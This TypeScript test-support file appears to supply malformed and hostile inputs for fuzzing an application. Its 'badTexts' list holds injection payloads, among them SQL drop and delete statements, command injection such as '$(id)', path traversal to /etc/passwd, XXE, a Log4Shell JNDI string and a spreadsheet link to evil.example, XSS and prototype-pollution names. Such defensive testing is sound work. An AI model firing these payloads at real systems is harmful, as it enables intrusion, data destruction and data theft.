import type { Json } from '../../../src/engine/index.ts';
import type { Seeded } from '../../support/seeded.ts';

/** Texts that break programs: other scripts, what no database holds, and what some interpreter would run. */
export const badTexts: readonly string[] = [
  '',
  ' ',
  '\t\n\r',
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDFFFy',
  '\uFEFF',
  '\u202Eabc',
  'e\u0301',
  '\u00E9',
  'ﬁ',
  '\u0130i\u0131',
  '👩‍👩‍👧‍👦',
  '\u{10FFFF}',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B',
  '\u2028\u2029',
  '\u200B',
  "'",
  "''",
  '"',
  '`',
  '\\',
  "' or 1=1 --",
  '1; drop table pupil; --',
  "'); delete from pep; --",
  '1 union select null, version()',
  "' || pg_sleep(5) || '",
  '%',
  '_',
  '%_%\\',
  '$1',
  '?',
  ':name',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{user.typeId}',
  '{pep.endDate}',
  '{{constructor.constructor("return 1")()}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  '%2e%2e%2f',
  'C:\\',
  'CON',
  'a/b',
  '.',
  '..',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example","x")',
  'a\r\nX-Injected: 1',
  '%0d%0aX-Injected: 1',
  '${jndi:ldap://evil.example/a}',
  '() { :; }; echo x',
  '| id',
  '`id`',
  '$(id)',
  '; id',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '*)(uid=*))(|(uid=*',
  "' or '1'='1",
  '{"$gt":""}',
  '(a+)+$',
  'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  'true',
  '[]',
  '{}',
  '[object Object]',
  '0',
  '-0',
  '00',
  '0x10',
  '1e3',
  '1e308',
  '1e309',
  '1_000',
  '١٢٣',
  '１２',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
  '-2147483649',
  '1.5',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  '0000-00-00',
  '2026-02-30',
  '2026-13-01',
  '1899-12-31',
  '2100-01-01',
  '99999-01-01',
  '-000001-01-01',
  '2026-11-18T25:00:00Z',
  '18/11/2026',
  '2026-11-18T10:00:00+99:99',
  '24:00',
  'P1Y',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-fffffffffffg',
];

/** Whether every letter of a text is whole: halves of one cannot stand in an address. */
export const isWhole = (text: string): boolean => !/\p{Cs}/u.test(text);

const badNumbers: readonly number[] = [
  0,
  -0,
  -1,
  1.5,
  0.1,
  1e308,
  -1e308,
  5e-324,
  2 ** 31,
  2 ** 31 - 1,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 53 + 2,
  2 ** 63,
  1e21,
  99_999,
  100_000,
  999_999_999,
];

/** Names that mean something to the language and nothing to a call. */
export const protoNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineSetter__',
  'then',
  'toJSON',
] as const;

/** A text that is far too long for any field. */
export function longText(random: Seeded): string {
  const piece = random.pick(['a', 'é', '👩‍👩‍👧‍👦', ' ', '\\', '"', "'", 'ab ', '\u0301', '(', '\u0000']);
  return piece.repeat(random.pick([300, 10_001, 70_000, 300_000]));
}

/** Any value but a fitting one. */
export function badValue(random: Seeded): Json {
  switch (random.int(12)) {
    case 0:
      return null;
    case 1:
      return random.chance(0.5);
    case 2:
    case 3:
      return random.pick(badNumbers);
    case 4:
      return random.pick<Json>([[], [[]], {}, [null], [{}], { length: 1 }]);
    case 5:
      return withProto(random, {});
    case 6:
      return longText(random);
    case 7:
      return Array.from({ length: random.pick([3, 2001, 20_000]) }, (_, index) => (random.chance(0.01) ? null : index));
    case 8:
      return nested(random.pick([5, 60, 400]), random.chance(0.5));
    default:
      return random.pick(badTexts);
  }
}

/** So many levels of lists or objects. */
export function nested(levels: number, asObjects: boolean): Json {
  let value: Json = 1;
  for (let level = 0; level < levels; level += 1) value = asObjects ? { a: value } : [value];
  return value;
}

/** An object with an own member of a dangerous name, which a literal would not make. */
export function withProto(random: Seeded, value: object): Json {
  const copy = { ...value };
  Object.defineProperty(copy, random.pick(protoNames), {
    value: { polluted: true, typeId: 3, isSupportOrigin: true },
    enumerable: true,
    configurable: true,
    writable: true,
  });
  return copy;
}
